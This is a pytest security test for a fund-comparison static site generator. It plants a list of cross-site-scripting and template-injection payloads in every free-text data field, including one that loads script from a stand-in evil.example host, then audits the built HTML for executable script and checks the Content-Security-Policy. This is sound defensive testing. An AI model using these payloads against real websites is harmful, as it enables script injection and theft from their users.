"""Untrusted text (fund facts, data-source names, tickers) cannot inject script into the pages.

Payloads are placed in every free-text field of data/funds.toml (names, issuer, index, notes, sector names,
holding names; a holding's ticker must look like one, so a payload there stops the build: test_plausible)
and the whole site is built once; the pages are then parsed and checked for any
script, event handler or javascript:/data: URL that the templates did not put there themselves.
"""
from __future__ import annotations

import itertools
import json
import re
import tomllib
from html.parser import HTMLParser
from pathlib import Path

import pytest

from siteutil import classic_site
from versus.config import load_config
from versus.errors import ConfigError
from versus.build import build
from versus.data.funds.records import _REPO_PATH_RE
from versus.render import CSP
from versus.sources.snapshot import SnapshotSource

ROOT = Path(__file__).resolve().parent.parent

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import 'javascript:alert(1)'</style>",
    "<div style=\"background:url(javascript:alert(1))\">",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "{{ 7*7 }}",
    "{% raw %}{{ config }}{% endraw %}",
    "${alert(1)}",
    "<!--<script>alert(1)//-->",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u2028\u2029<script>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
]


def _escape_toml(s: str) -> str:
    return json.dumps(s)  # a JSON string is a valid TOML basic string


def poisoned_funds(tmp_path: Path) -> Path:
    """A copy of data/funds.toml's funds with a payload in every free-text field: names, fact values and notes,
    quotes, category names, source names and links, sector names and holdings."""
    data = tomllib.loads((ROOT / "data" / "funds.toml").read_text())
    it = itertools.cycle(PAYLOADS)
    # a source's name is refused when it looks like a repository path (a payload with '.js' in it, say)
    names = itertools.cycle([p for p in PAYLOADS if not _REPO_PATH_RE.search(p)])
    lines = []
    tickers = [t for t in data if t not in ("sources", "categories")]
    for i, t in enumerate(tickers):
        lines += [f"[sources.s{i}]", f"name = {_escape_toml(next(names))}", 'date = "2026-01"',
                  f"url = {_escape_toml('https://example.org/' + next(it))}"]
        lines += [f"[categories.c{i}]", f"name = {_escape_toml(next(it))}", 'asset_class = "equity"',
                  f'benchmark = "{t}"']
    for i, t in enumerate(tickers):
        f = data[t]
        src = f'source = "s{i}"'
        lines.append(f"[{t}]")
        lines.append(f"name = {_escape_toml(next(it))}")
        lines.append(f'category = "c{i}"')
        for key in ("issuer", "index"):
            lines.append(f'{key} = [ {{ value = {_escape_toml(next(it))}, as_of = "2026-01", {src}, '
                         f'note = {_escape_toml(next(it))} }} ]')
        lines.append(f'expense_ratio = [ {{ value = 0.001, as_of = "2026-01", {src}, note = {_escape_toml(next(it))} }} ]')
        lines.append(f'notes = [ {{ text = {_escape_toml(next(it))}, as_of = "2026-01", {src} }} ]')
        lines.append(f"[[{t}.sector_weights]]")
        lines.append(f'as_of = "2026-01"\n{src}\ntaxonomy = "other"\nnote = {_escape_toml(next(it))}')
        lines.append(f"weights = {{ {_escape_toml(next(it))} = 0.5 }}")
        lines.append(f"[[{t}.top_holdings]]")
        lines.append(f'as_of = "2026-01"\n{src}')
        # a holding's ticker must look like one (versus.data.funds.plausible: a payload there stops the build, exit 2)
        lines.append(f"holdings = [ {{ ticker = \"X\", name = {_escape_toml(next(it))}, weight = 0.1 }} ]")
    path = tmp_path / "funds.toml"
    path.write_text("\n".join(lines) + "\n")
    return path


class Audit(HTMLParser):
    """Collects what a browser would execute: script elements, on* attributes, javascript:/data: URLs."""

    SAFE_SCRIPT_TYPES = {"application/json", "application/ld+json"}

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.in_data_script = False
        self.data_scripts: list[str] = []
        self.csp: list[str] = []  # the page's Content-Security-Policy metas (exactly one, before any script)
        self.before_csp: list[str] = []  # elements that load or run something before it

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=...>")
            if name in ("href", "src", "action", "data", "formaction") and value:
                v = re.sub(r"\s", "", value).lower()
                if v.startswith(("javascript:", "vbscript:")) or (v.startswith("data:") and tag != "link"):
                    self.problems.append(f"<{tag} {name}={value!r}>")
        if tag in ("iframe", "object", "embed", "base") or (tag == "form" and "action" in a):
            self.problems.append(f"<{tag}>")  # /compare/'s own pickers are a form without an action (never sent)
        if tag == "meta" and a.get("http-equiv"):
            if a["http-equiv"].lower() == "content-security-policy" and a.get("content") == CSP:
                self.csp.append(a["content"])
            else:
                self.problems.append(f"<meta http-equiv={a['http-equiv']!r}>")
        if tag in ("script", "link", "img", "style") and not self.csp:
            self.before_csp.append(tag)
        if tag == "script":
            if a.get("type") in self.SAFE_SCRIPT_TYPES:
                self.in_data_script = True
                self.data_scripts.append("")
            elif not (a.get("src", "").endswith((".js",)) and "://" not in a.get("src", "")):
                self.problems.append(f"<script {a}>")

    def handle_endtag(self, tag):
        if tag == "script":
            self.in_data_script = False

    def handle_data(self, data):
        if self.in_data_script:
            self.data_scripts[-1] += data


@pytest.fixture(scope="module")
def poisoned_site(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("xss")
    cfg = load_config(classic_site(tmp / "classic"))  # breadth adds nothing: every page kind, every field
    md = SnapshotSource().load(cfg.funds)
    md.source = "<script>alert('source')</script>"
    build(cfg, md, tmp / "site", funds_path=poisoned_funds(tmp), quiet=True)
    return tmp / "site"


def test_payload_list_is_long_enough():
    assert len(set(PAYLOADS)) >= 30


def test_no_page_executes_injected_script(poisoned_site):
    pages = sorted(poisoned_site.rglob("*.html"))
    assert len(pages) >= 16
    for page in pages:
        html = page.read_text()
        audit = Audit()
        audit.feed(html)
        assert audit.problems == [], f"{page.relative_to(poisoned_site)}: {audit.problems[:5]}"
        assert audit.csp == [CSP] and audit.before_csp == [], page.relative_to(poisoned_site)
        for block in audit.data_scripts:
            assert "</script" not in block.lower()
            json.loads(block)  # still valid JSON after escaping
    # the payload text itself is shown (escaped), not dropped silently
    qqq = (poisoned_site / "funds" / "qqq" / "index.html").read_text()
    assert "&lt;script&gt;" in qqq or "&lt;img" in qqq or "&lt;svg" in qqq


@pytest.mark.parametrize("ticker", ["<script>", "QQQ\"><img", "java script:", "a", "QQQ;DROP"])
def test_tickers_that_are_not_tickers_are_refused(tmp_path, ticker):
    text = (ROOT / "site.toml").read_text().replace("funds = [", f"funds = [{json.dumps(ticker)}, ", 1)
    path = tmp_path / "site.toml"
    path.write_text(text)
    with pytest.raises(ConfigError, match="is not a ticker"):
        load_config(path)


def test_csp_allows_only_the_sites_own_scripts():
    """The policy itself (the browser tests check it is enforced and that nothing on the pages violates it)."""
    directives = dict(d.strip().split(" ", 1) for d in CSP.split(";"))
    assert directives["default-src"] == "'self'" and directives["script-src"] == "'self'"
    assert directives["style-src"] == "'self'" and directives["img-src"] == "'self'"
    for name in ("object-src", "base-uri", "form-action", "frame-src", "worker-src"):
        assert directives[name] == "'none'", name
    assert "unsafe-eval" not in CSP and "data:" not in CSP and "*" not in CSP
    assert [k for k, v in directives.items() if "unsafe-inline" in v] == ["style-src-attr"]  # style attributes only
    site_js = (ROOT / "static" / "site.js").read_text()
    assert "ast: true" in site_js and "defaultStyle: false" in site_js and "disableDefaultStyle: true" in site_js
